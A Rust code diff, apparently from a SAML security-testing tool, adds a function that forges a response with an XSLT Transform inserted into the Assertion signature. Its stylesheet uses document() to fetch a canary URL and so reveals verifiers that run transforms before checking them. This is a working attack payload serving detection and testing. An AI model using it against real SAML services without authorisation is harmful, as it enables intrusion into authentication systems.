@@ -409,3 +409,28 @@ pub fn retrieval_method(f: &Forge) -> Result<Forged, Skip> {
         p.splice_unsigned_response(vec![edit]),
     ))
 }
+
+/// The XSLT transform.
+const XSLT_TRANSFORM: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";
+
+/// An XSLT transform in the Assertion's Reference whose stylesheet reads a canary URL with
+/// `document()` (SAML Raider's XSLT template; Project Zero's 2022 Java findings): a verifier
+/// that runs the transforms before checking them fetches it while digesting.
+pub fn xslt_transform(f: &Forge) -> Result<Forged, Skip> {
+    let canary = &f.canary()?.prefix;
+    let doc = Doc::parse(f.seed)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let transforms = sig
+        .descendants()
+        .find(|n| n.has_tag_name((DSIG_NS, "Transforms")))
+        .ok_or_else(|| Skip::NotApplicable("the Assertion's Reference has no Transforms".into()))?;
+    let tag = qualified_name(doc.src, transforms);
+    let ds = tag.strip_suffix("Transforms").unwrap_or_default();
+    let xslt = format!(
+        "<{ds}Transform Algorithm=\"{XSLT_TRANSFORM}\"><xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:copy-of select=\"document('{canary}/xslt')\"/></xsl:template></xsl:stylesheet></{ds}Transform>"
+    );
+    Ok(Forged::same_identity(p.splice_unsigned_response(vec![
+        insert(after_start_tag(doc.src, transforms), xslt),
+    ])))
+}
